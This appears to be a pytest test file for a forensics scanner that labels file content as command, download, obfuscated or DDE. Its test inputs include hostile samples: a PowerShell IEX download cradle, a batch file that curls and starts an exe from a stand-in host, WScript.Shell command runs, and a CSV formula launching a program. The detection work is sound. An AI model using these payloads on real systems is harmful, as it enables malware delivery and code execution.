import pytest

from bartizan.forensics.examination import Trait


def test_an_application_of_markup(read, traits):
    page = b'<HTA:APPLICATION/><script>new ActiveXObject("WScript.Shell").Run("cmd /c x")</script>'
    assert traits(read(page)) == ["command"]


def test_a_batch_file_that_downloads(read, traits):
    content = b"@echo off\r\ncurl -o %TEMP%\\a.exe https://x.test/a.exe\r\nstart a.exe"
    reading = read(content)
    assert traits(reading) == ["download"]
    assert reading.urls == ("https://x.test/a.exe",)


@pytest.mark.parametrize(
    "text",
    [
        b'var s = new ActiveXObject("MSXML2.XMLHTTP"); s.open("GET", "https://x.test/a")',
        b'Set o = CreateObject("WScript.Shell")\no.Run "powershell iwr https://x.test/a"',
        b"$env:TEMP\nIEX (New-Object Net.WebClient).DownloadString('https://x.test/a')",
    ],
)
def test_programs_without_a_mark_of_their_own(read, text):
    assert {Trait.COMMAND, Trait.DOWNLOAD} <= {sign.trait for sign in read(text).signs}


def test_an_encoded_script(read, traits):
    assert traits(read(b"#@~^AAAAAA==abc")) == ["obfuscated"]


def test_wide_text_is_read(read, traits):
    text = 'Set o = CreateObject("WScript.Shell")'
    assert "command" in traits(read(b"\xff\xfe" + text.encode("utf-16-le")))


def test_a_formula_that_starts_a_program(read, traits):
    assert traits(read(b"name,amount\nx,=cmd|'/c calc'!A0\n")) == ["dde"]


@pytest.mark.parametrize(
    "text",
    [
        b"Hello,\nthe powershell course starts at nine. Use cmd /c only in the lab.",
        b"name;amount\n-5 | a! b;=SUM(A1)",
        b"CREATE TABLE x; SELECT * FROM y;",
    ],
)
def test_honest_text_shows_nothing(read, text):
    assert read(text).signs == ()


def test_a_line_of_very_many_letters(read, traits):
    assert "obfuscated" in traits(read(b"@echo off\n" + b"x" * 30_000))
